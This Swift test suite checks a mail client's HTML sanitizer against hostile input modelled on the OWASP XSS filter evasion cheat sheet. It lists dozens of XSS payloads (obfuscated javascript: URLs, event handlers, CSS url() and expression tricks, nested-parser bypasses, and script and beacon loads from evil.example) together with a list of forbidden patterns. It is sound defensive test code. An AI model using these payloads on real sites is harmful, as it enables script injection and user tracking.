import Archive
import Foundation
import Testing

/// Hostile input after the OWASP XSS filter evasion cheat sheet: whatever comes in, nothing
/// that runs or loads may come out.
@Suite struct HTMLSanitizerTests {
    let sanitizer = HTMLSanitizer()

    /// Nothing in the output may run script or reach the network.
    static func assertInert(_ html: String, textMayHoldBackslashes: Bool = false, sourceLocation: SourceLocation = #_sourceLocation) {
        let lowered = textMayHoldBackslashes ? html.lowercased().replacingOccurrences(of: "\\", with: "") : html.lowercased()
        for needle in [
            "<script", "javascript:", "vbscript:", "onerror", "onload", "onclick", "onmouseover", "onfocus", "<iframe", "<svg",
            "<object", "<embed", "<meta", "<link", "<base", "<form", "expression(", "url(", "http://evil", "//evil", "srcset",
            "background=", "<math", "<template", "@import", "\\",
        ] {
            #expect(!lowered.contains(needle), "\(needle) survived in \(html)", sourceLocation: sourceLocation)
        }
    }

    static let hostile: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<img src=`javascript:alert(1)`>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script/XSS src=\"http://evil.example/xss.js\"></script>",
        "<body onload=alert(1)>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<iframe src=http://evil.example/></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=http://evil.example/x.swf></object>",
        "<embed src=http://evil.example/x.swf>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<base href=\"javascript:alert(1)//\">",
        "<form action=http://evil.example/><input type=submit formaction=javascript:alert(1)></form>",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background:\\75rl(http://evil.example/x.png)\">x</div>",
        "<div style=\"background:u\\72l(http://evil.example/x.png)\">x</div>",
        "<div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#xss)\">x</div>",
        "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/x.png)}</style>",
        "<style>body{background:u/**/rl(http://evil.example/x.png)}</style>",
        "<style></style><script>alert(1)</script>",
        "<style>x{}</style ><img src=x onerror=alert(1)>",
        "<style>a{}</STYLE><svg onload=alert(1)>",
        "<!--<script>alert(1)</script>-->",
        "<!-- --><script>alert(1)</script>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<img src=\"http://evil.example/beacon.gif\">",
        "<img src=\"//evil.example/beacon.gif\">",
        "<img srcset=\"http://evil.example/a.png 1x\">",
        "<table background=\"http://evil.example/bg.png\"><tr><td>x</td></tr></table>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img src=x o\0nerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<a href=\"http://ok.example/\" onmouseover=\"alert(1)\">x</a>",
        "<img src=x onerror=alert(1)",
        "<img src=\"x\" onerror=\"alert(1)",
        "<div",
        "<",
        "<a href=\"javascript:alert(1)",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<plaintext><script>alert(1)</script>",
        "<a href=\"#x\" style=\"position:fixed\" onfocus=alert(1) autofocus>x</a>",
        "<isindex action=javascript:alert(1) type=image>",
        "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>",
        "</p onclick=alert(1)><p>",
    ]

    @Test(arguments: hostile)
    func hostileInputComesOutInert(_ input: String) {
        let result = sanitizer.sanitize(input)
        Self.assertInert(result.html)
    }

    @Test func everyHostileInputTogetherIsInertToo() {
        Self.assertInert(sanitizer.sanitize(Self.hostile.joined(separator: "\n")).html)
        Self.assertInert(sanitizer.sanitize(Self.hostile.joined()).html)
    }

    @Test func keepsOrdinaryMailMarkup() {
        let html = """
            <html><head><title>t</title><style>p { color: #333; }</style></head>
            <body bgcolor="#ffffff"><p style="font-weight:bold">請求書を<b>送付</b>します。</p>
            <table border=1><tr><td colspan=2>合計 &yen;1,000 &amp; 税</td></tr></table>
            <a href="https://example.co.jp/a?b=1&amp;c=2">リンク</a><br><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></body></html>
            """
        let out = sanitizer.sanitize(html).html
        #expect(out.contains("<style>p { color: #333; }</style>"))
        #expect(out.contains("<div bgcolor=\"#ffffff\">"))
        #expect(out.contains("<p style=\"font-weight:bold\">請求書を<b>送付</b>します。</p>"))
        #expect(out.contains("<td colspan=\"2\">合計 ¥1,000 &amp; 税</td>"))
        #expect(out.contains("<a href=\"https://example.co.jp/a?b=1&amp;c=2\" rel=\"noopener noreferrer\" target=\"_blank\">リンク</a>"))
        #expect(out.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"logo\">"))
        #expect(!out.contains("<title"))
        #expect(out.hasSuffix("</div>"))
    }

    @Test func remoteLoadsAreRemovedAndCounted() {
        let result = sanitizer.sanitize(
            "<img src=\"http://127.0.0.1:9/x\" alt=a><div style=\"background:url(https://e.example/b)\">t</div><table background=\"http://e.example/bg\"></table>")
        #expect(result.blockedRemoteContent == 3)
        #expect(result.html == "<img alt=\"a\"><div>t</div><table></table>")
    }

    @Test func cidImagesBecomeTheGivenURL() {
        let sanitizer = HTMLSanitizer { cid in cid == "logo@x" ? "data:image/png;base64,AAAA" : nil }
        #expect(sanitizer.sanitize("<img src=\"cid:logo@x\"><img src=\"CID:other\">").html == "<img src=\"data:image/png;base64,AAAA\"><img>")
    }

    @Test func htmlKeptInAMailKeepsItsCIDImagesAndOpensNoWindows() {
        let sanitizer = HTMLSanitizer(inlineImage: HTMLSanitizer.keepingContentIDs, linksOpenInNewWindow: false)
        let result = sanitizer.sanitize("<a href=\"https://example.jp/\">x</a><img src=\"cid:logo@x\" alt=l>")
        #expect(result.html == "<a href=\"https://example.jp/\">x</a><img src=\"cid:logo@x\" alt=\"l\">")
    }

    @Test func activeContentIsCounted() {
        let html = "<body onload=x()><script>a()</script><p onclick=b()>t</p><form action=/p><input name=q></form><iframe src=x></iframe><a href=\"javascript:c()\">l</a><title>t</title><b>ok</b></body>"
        let result = sanitizer.sanitize(html)
        // onload, script, onclick, form, input, iframe, javascript: link; not the title.
        #expect(result.removedActiveContent == 7)
        #expect(sanitizer.sanitize("<p class=x>plain <b>text</b></p>").removedActiveContent == 0)
    }

    @Test func textIsEscapedAndUnclosedElementsAreClosed() {
        #expect(sanitizer.sanitize("a < b & c > d").html == "a &lt; b &amp; c &gt; d")
        #expect(sanitizer.sanitize("<b><i>x").html == "<b><i>x</i></b>")
        #expect(sanitizer.sanitize("<b>x</i>y</b></b>").html == "<b>xy</b>")
        #expect(sanitizer.sanitize("<scr<script>ipt>alert(1)</scr</script>ipt>").html == "ipt&gt;alert(1)ipt&gt;")
        #expect(sanitizer.sanitize("<P CLASS=x ID=y>Z</P>").html == "<p class=\"x\">Z</p>")
        #expect(sanitizer.sanitize("<span title='\"><script>'>q</span>").html == "<span title=\"&quot;&gt;&lt;script&gt;\">q</span>")
        #expect(sanitizer.sanitize("<o:p>x</o:p><font face=\"MS 明朝\">y</font>").html == "x<font face=\"MS 明朝\">y</font>")
    }

    @Test func linksKeepOnlySafeSchemes() {
        #expect(sanitizer.sanitize("<a href=\"mailto:a@example.jp\">m</a>").html.contains("href=\"mailto:a@example.jp\""))
        #expect(sanitizer.sanitize("<a href=\"#top\">t</a>").html.contains("href=\"#top\""))
        #expect(!sanitizer.sanitize("<a href=\"/logout\">t</a>").html.contains("href"))
        #expect(!sanitizer.sanitize("<a href=\"ftp://x/\">t</a>").html.contains("href"))
    }

    @Test func randomGarbageNeverCrashes() {
        var generator = SystemRandomNumberGenerator()
        let alphabet = Array("<>/=\"' \t\n&#;x!-?abcscriptstyle:\\()\0漢".unicodeScalars)
        for _ in 0..<300 {
            var text = String.UnicodeScalarView()
            for _ in 0..<Int.random(in: 0..<200, using: &generator) { text.append(alphabet.randomElement(using: &generator)!) }
            Self.assertInert(sanitizer.sanitize(String(text)).html, textMayHoldBackslashes: true)
        }
    }
}
